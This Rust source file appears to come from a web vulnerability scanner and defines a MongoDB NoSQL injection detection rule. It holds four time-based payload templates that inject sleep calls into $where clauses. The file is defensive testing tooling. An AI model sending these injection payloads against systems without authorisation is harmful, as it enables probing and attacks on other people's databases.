// File: nosql.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use super::payload::{PayloadFamily, PayloadTemplate as T};
use super::Rule;

/// MongoDB `$where` clauses run JavaScript, where `sleep` takes milliseconds.
static FAMILIES: [PayloadFamily; 1] = [PayloadFamily {
    name: "MongoDB",
    tech: &["mongodb", "node", "express"],
    whole_seconds: false,
    templates: &[
        T::new("';sleep({delay_ms});var x='"),
        T::new("\";sleep({delay_ms});var x=\""),
        T::new("' || (function(){sleep({delay_ms});return true;})() || '"),
        T::new(";sleep({delay_ms})"),
    ],
}];

pub struct NoSqlInjectionRule;

impl Rule for NoSqlInjectionRule {
    fn id(&self) -> &'static str {
        "nosqli"
    }

    fn name(&self) -> &'static str {
        "NoSQL Injection"
    }

    fn cwe(&self) -> u32 {
        943
    }

    fn families(&self) -> &'static [PayloadFamily] {
        &FAMILIES
    }
}
